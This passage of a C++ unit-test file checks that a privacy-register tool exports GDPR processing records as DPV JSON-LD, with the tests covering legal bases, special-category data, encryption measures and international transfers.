  EXPECT_EQ(act["dpv:hasLegalBasis"],
            nlohmann::json::parse(R"([{"@id":"eu-gdpr:A6-1-a"},{"@id":"eu-gdpr:A6-1-c"}])"));
  const auto& subs = act["dpv:hasProcess"];
  ASSERT_EQ(subs.size(), 2u) << subs.dump();
  EXPECT_EQ(subs[0], nlohmann::json::parse(R"({
      "@id": "urn:blindspot:activity:crm:process:purpose-1", "@type": "dpv:Process",
      "rdfs:label": "Nieuwsbrief sturen",
      "dpv:hasPurpose": {"@id": "urn:blindspot:activity:crm:purpose:purpose-1"},
      "dpv:hasLegalBasis": {"@id": "eu-gdpr:A6-1-a"}})"));
  EXPECT_EQ(subs[1]["@id"], "urn:blindspot:activity:crm:process:fiscaal");
  EXPECT_EQ(subs[1]["dpv:hasPurpose"]["@id"], "urn:blindspot:activity:crm:purpose:fiscaal");
  EXPECT_EQ(subs[1]["dpv:hasLegalBasis"]["@id"], "eu-gdpr:A6-1-c");
}

TEST(Exporters, DpvNamesSpecialCategoriesAsPersonalDataWithTheirCondition) {
  Register r = Hostile();
  SpecialCategory health;
  health.category = "user.health";
  health.condition = 'h';
  SpecialCategory belief;
  belief.category = "religieuze overtuiging";
  r.activities[0].special_categories = {health, belief};
  r.activities[0].toms.measures = {"encryption_at_rest", "encryption_in_transit"};
  auto j = nlohmann::json::parse(Export("dpv", r));
  const nlohmann::json* a = nullptr;
  for (const auto& n : j["@graph"])
    if (n["@id"] == "urn:blindspot:activity:crm") a = &n;
  ASSERT_NE(a, nullptr);
  std::set<std::string> data;
  for (const auto& d : (*a)["dpv:hasPersonalData"])
    data.insert(d.contains("@id") ? d["@id"].get<std::string>()
                                  : d["@type"].get<std::string>() + " " + d["rdfs:label"].get<std::string>());
  EXPECT_TRUE(data.count("pd:Health")) << (*a)["dpv:hasPersonalData"].dump();
  EXPECT_TRUE(data.count("dpv:SpecialCategoryPersonalData religieuze overtuiging"))
      << (*a)["dpv:hasPersonalData"].dump();
  // Two kinds of encryption: each an instance of dpv:Encryption with its key.
  EXPECT_EQ((*a)["dpv:hasTechnicalOrganisationalMeasure"],
            nlohmann::json::parse(R"([{"@type":"dpv:Encryption","rdfs:label":"encryption_at_rest"},
                                      {"@type":"dpv:Encryption","rdfs:label":"encryption_in_transit"}])"));
  // The condition of Art. 9(2) is said per category, on a sub-process.
  bool h = false;
  for (const auto& sub : (*a)["dpv:hasProcess"])
    h = h || (sub.value("rdfs:label", "") == "user.health" &&
              sub["dpv:hasLegalBasis"] == nlohmann::json::parse(R"({"@id":"eu-gdpr:A9-2-h"})") &&
              sub["dpv:hasPersonalData"] == nlohmann::json::parse(R"({"@id":"pd:Health"})"));
  EXPECT_TRUE(h) << (*a)["dpv:hasProcess"].dump();
}

TEST(Exporters, DpvTransfersCarryCountryAndChapterVBasis) {
  Register r = Hostile();
  Transfer t;
  t.id = "transfer-1";
  t.recipient = "Mailer Inc.";
  t.country = "US";
  t.safeguard = TransferSafeguard::kSccs;
  r.activities[0].transfers.push_back(t);
  t.id = "transfer-2";
  t.country = "JP";
  t.safeguard = TransferSafeguard::kAdequacyDecision;
  r.activities[0].transfers.push_back(t);
  r.activities[0].special_categories.push_back({"special-category-1", "user.health", 'h', ""});
  auto j = nlohmann::json::parse(Export("dpv", r));
  const auto& a = j["@graph"][1];
  std::vector<nlohmann::json> tr;  // the transfers among the sub-processes (the purposes' are first)
  for (const auto& sub : a["dpv:hasProcess"])
    if (sub.contains("dpv:hasProcessing")) tr.push_back(sub);
  ASSERT_EQ(tr.size(), 2u);
  EXPECT_EQ(tr[0]["dpv:hasProcessing"]["@id"], "dpv:Transfer");
  EXPECT_EQ(tr[0]["dpv:hasCountry"]["@id"], "loc:US");
  EXPECT_EQ(tr[0]["dpv:hasLegalBasis"]["@id"], "eu-gdpr:A46-2-c");
  EXPECT_EQ(tr[0]["dpv:hasRecipient"]["rdfs:label"], "Mailer Inc.");
  EXPECT_EQ(tr[1]["dpv:hasLegalBasis"]["@id"], "eu-gdpr:A45-3");
  std::set<std::string> bases;
  for (const auto& b : a["dpv:hasLegalBasis"]) bases.insert(b["@id"]);
  EXPECT_EQ(bases, (std::set<std::string>{"eu-gdpr:A6-1-a", "eu-gdpr:A6-1-b", "eu-gdpr:A9-2-h"}));
}

}  // namespace
}  // namespace blindspot
